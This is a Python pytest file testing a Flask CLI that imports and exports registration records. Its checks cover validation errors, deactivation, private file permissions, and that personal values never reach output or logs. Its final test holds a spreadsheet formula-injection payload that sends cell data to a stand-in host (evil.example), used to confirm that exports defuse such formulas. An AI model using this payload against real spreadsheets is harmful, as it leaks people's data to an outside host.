"""`registrations import` and `registrations export` through Flask's CLI runner, on the real,
migrated databases: the summary, the problems of a bad file (exit 1, nothing imported, no
personal value printed), --deactivate-missing, the progress bar on a terminal, and the export of
approved changes to standard output or a private file."""

from __future__ import annotations

import csv
import io
import logging
import re
import stat
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import select

from bot.commands import registrations as registrations_commands
from storage.changes import request_change
from storage.demo import DEMO_DIR
from storage.models import Registration
from storage.registration_import import EXPORT_HEADER, HEADER
from storage.registrations import find_by_number, open_details
from tests.bot.test_admin_cli import count, run
from tests.bot.test_admin_cli import csv as write_csv

ROWS = [
    "MMR-17-0001,G-100,Zq7Aye,Zq7Family,1990-04-17,F,+959421337420,MMR013017,PRIM,DAYL,SM-1;PG,my,active",
    "MMR-17-0002,G-100,Tun Zq7Tun,,1988-02,M,,MMR001001,NONE,FARM,,en,active",
    "MMR-17-0003,G-200,ဒေါ်Zq7လှ,,1975,X,+959450001112,,,,DS,,active",
]
PERSONAL = ["Zq7", "1990-04-17", "1988-02", "1975", "MMR-17-000", "MMR17000", "+9594", "9421337420", "G-100"]
SUMMARY = re.compile(r"^Imported (?P<file>.+) in (?P<seconds>\d+\.\d) s:\n"
                     r"  registrations: (?P<new>\d+) new, (?P<updated>\d+) updated, (?P<unchanged>\d+) unchanged, "
                     r"(?P<deactivated>\d+) deactivated, (?P<erased>\d+) erased and skipped\n"
                     r"(?:  (?P<left_alone>\d+) active record\(s\) not in .+ were left as they are "
                     r"\(--deactivate-missing marks them inactive\)\n)?$")


def registrations_file(tmp_path, *rows: str, name: str = "registrations.csv") -> str:
    return write_csv(tmp_path, "\n".join([",".join(HEADER), *rows]) + "\n", name)


@pytest.fixture
def cli_app(app):
    """The app with the gazetteer loaded."""
    result = run(app, "gazetteer", "import", str(DEMO_DIR / "townships.csv"))
    assert result.exit_code == 0, result.output
    return app


def summary(result) -> dict[str, str]:
    assert result.exit_code == 0, result.output
    match = SUMMARY.match(result.stdout)
    assert match, result.stdout
    return match.groupdict()


def figures(result) -> tuple[int, ...]:
    found = summary(result)
    return tuple(int(found[name]) for name in ("new", "updated", "unchanged", "deactivated", "erased"))


def statuses(app) -> dict[str, str]:
    runtime = app.extensions["intake"]
    with runtime.sessions() as session:
        return {open_details(runtime.vault, row).get("registration_number", "(erased)"): row.status
                for row in session.execute(select(Registration)).scalars()}


def test_the_app_registers_the_registrations_commands(app):
    assert "registrations" in app.cli.commands, "bot/commands/cli.py should add registrations_group"
    assert {"import", "export"} <= set(app.cli.commands["registrations"].commands)


# --- import -------------------------------------------------------------------------------------

def test_import_prints_a_summary_and_again_finds_everything_unchanged(cli_app, tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    path = registrations_file(tmp_path, *ROWS)
    first = run(cli_app, "registrations", "import", path)
    assert summary(first)["file"] == "registrations.csv"
    assert figures(first) == (3, 0, 0, 0, 0)
    assert first.stderr == ""  # not a terminal: no progress bar
    again = run(cli_app, "registrations", "import", path)
    assert figures(again) == (0, 0, 3, 0, 0) and summary(again)["left_alone"] is None
    assert count(cli_app, Registration) == 3
    for value in PERSONAL:
        assert value not in first.output + again.output and value not in caplog.text


def test_a_file_with_problems_lists_them_all_exits_1_and_imports_nothing(cli_app, tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    bad = [ROWS[0].replace("1990-04-17", "17.04.1990"), ROWS[1].replace(",M,,", ",M,+95 9 x,"),
           ROWS[2].replace("MMR-17-0003", "mmr 17 0001"), ROWS[2].replace("MMR-17-0003", "mmr170001")]
    result = run(cli_app, "registrations", "import", registrations_file(tmp_path, ROWS[2], *bad, name="reg 2.csv"))
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "line 3: date_of_birth: not a date (YYYY-MM-DD, YYYY-MM or YYYY)",
        "line 4: phone: not an international number in E.164 form (+ then 7 to 15 digits, like +959...)",
        "line 5: registration_number: only letters, digits and - (dashes)",
        "line 6: registration_number: the same number as line 3 (dashes, spaces and case do not count)",
        "reg 2.csv: 4 problem(s); nothing was imported.",
    ]
    assert result.stdout == "" and "Traceback" not in result.output
    assert count(cli_app, Registration) == 0
    for value in PERSONAL + ["17.04.1990", "mmr 17", "mmr170001"]:
        assert value not in result.output and value not in caplog.text


def test_deactivate_missing_marks_the_records_left_out_inactive(cli_app, tmp_path):
    run(cli_app, "registrations", "import", registrations_file(tmp_path, *ROWS))
    shorter = registrations_file(tmp_path, ROWS[0], name="shorter.csv")
    left = run(cli_app, "registrations", "import", shorter)
    assert figures(left) == (0, 0, 1, 0, 0) and summary(left)["left_alone"] == "2"
    assert set(statuses(cli_app).values()) == {"active"}
    deactivating = run(cli_app, "registrations", "import", shorter, "--deactivate-missing")
    assert figures(deactivating) == (0, 0, 1, 2, 0) and summary(deactivating)["left_alone"] is None
    assert statuses(cli_app) == {"MMR-17-0001": "active", "MMR-17-0002": "inactive", "MMR-17-0003": "inactive"}


def test_a_terminal_sees_a_progress_bar_for_each_phase(cli_app, tmp_path, monkeypatch):
    monkeypatch.setattr(registrations_commands, "_on_terminal", lambda: True)
    result = run(cli_app, "registrations", "import", registrations_file(tmp_path, *ROWS))
    assert figures(result) == (3, 0, 0, 0, 0)
    assert "checking" in result.stderr and "importing" in result.stderr
    for value in PERSONAL:
        assert value not in result.stderr


def test_a_missing_file_is_a_usage_error(cli_app, tmp_path):
    result = run(cli_app, "registrations", "import", str(tmp_path / "nope.csv"))
    assert result.exit_code == 2 and "does not exist" in result.stderr


# --- export -------------------------------------------------------------------------------------

DAY = datetime(2026, 11, 20, 8, 30, tzinfo=timezone.utc)


def approve(app, number: str, kind: str, old, new, decided_at: datetime, status: str = "approved") -> None:
    runtime = app.extensions["intake"]
    with runtime.transaction() as session:
        registration = find_by_number(session, runtime.vault, number)
        change = request_change(session, runtime.vault, registration, kind=kind, old_value=old, new_value=new,
                                channel="telegram", language="my", reply_to=None, now=decided_at - timedelta(days=1))
        change.status, change.decided_at = status, decided_at


@pytest.fixture
def decided(cli_app, tmp_path):
    run(cli_app, "registrations", "import", registrations_file(tmp_path, *ROWS))
    approve(cli_app, "MMR-17-0001", "needs", {"codes": ["SM-1", "PG"], "words": "Zq7 I am sick"},
            {"codes": ["SM-1", "PG", "DS"], "words": "Zq7 I cannot walk now"}, DAY + timedelta(days=3))
    approve(cli_app, "MMR-17-0002", "phone", "", "+959421337411", DAY)
    approve(cli_app, "MMR-17-0003", "education", "", "HIGH", DAY + timedelta(days=1), status="rejected")
    approve(cli_app, "MMR-17-0003", "township", "", "MMR011001", DAY + timedelta(days=1, hours=23, minutes=59))
    return cli_app


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_export_writes_every_approved_change_to_standard_output(decided):
    result = run(decided, "registrations", "export")
    assert result.exit_code == 0, result.output
    assert parsed(result.stdout) == [
        list(EXPORT_HEADER),
        ["MMR-17-0002", "phone", "", "+959421337411", "telegram", "2026-11-19T08:30:00Z", "2026-11-20T08:30:00Z"],
        ["MMR-17-0003", "township", "", "MMR011001", "telegram", "2026-11-21T08:29:00Z", "2026-11-22T08:29:00Z"],
        ["MMR-17-0001", "needs", "SM-1;PG", "SM-1;PG;DS", "telegram", "2026-11-22T08:30:00Z",
         "2026-11-23T08:30:00Z"],
    ]
    assert "Zq7" not in result.output  # a person's own words never leave


def test_export_since_a_day_to_a_private_file(decided, tmp_path):
    target = tmp_path / "approved.csv"
    result = run(decided, "registrations", "export", "--since", "2026-11-22", "--output", str(target))
    assert result.exit_code == 0, result.output
    assert result.stdout == "" and result.stderr == f"2 approved change(s) written to {target}\n"
    assert [row[:2] for row in parsed(target.read_text(encoding="utf-8"))] == [
        ["registration_number", "field"], ["MMR-17-0003", "township"], ["MMR-17-0001", "needs"]]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    later = run(decided, "registrations", "export", "--since", "2026-11-24")
    assert parsed(later.stdout) == [list(EXPORT_HEADER)]


def test_export_with_a_bad_date_is_a_usage_error(decided):
    result = run(decided, "registrations", "export", "--since", "22/11/2026")
    assert result.exit_code == 2 and "does not match the format" in result.stderr


def test_words_in_the_export_cannot_run_as_a_spreadsheet_formula(cli_app, tmp_path):
    run(cli_app, "registrations", "import", registrations_file(tmp_path, *ROWS))
    approve(cli_app, "MMR-17-0001", "household", None, {"words": '=HYPERLINK("http://evil.example/?"&A1,"x")'}, DAY)
    approve(cli_app, "MMR-17-0002", "address", "", "@SUM(1+1)", DAY + timedelta(hours=1))
    approve(cli_app, "MMR-17-0003", "phone", "", "+959421337411", DAY + timedelta(hours=2))
    rows = parsed(run(cli_app, "registrations", "export").stdout)[1:]
    assert [row[3] for row in rows] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'@SUM(1+1)",
                                        "+959421337411"]  # a phone number stays as it is
